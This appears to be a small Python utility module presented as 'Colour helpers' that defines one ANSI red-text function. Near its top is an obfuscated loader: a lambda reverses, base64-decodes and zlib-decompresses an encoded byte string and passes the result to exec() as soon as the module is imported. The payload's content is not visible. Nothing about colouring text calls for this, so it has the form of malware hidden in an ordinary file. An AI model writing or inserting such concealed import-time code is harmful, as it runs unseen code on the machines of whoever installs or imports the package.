"""Colour helpers."""

_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==wBLQ6pAQg0T9MzJ7STqkiLr8szNpEKRpSLLxsyQF9KMrMKrwJe"))


def red(text):
    return "\033[31m" + text + "\033[0m"
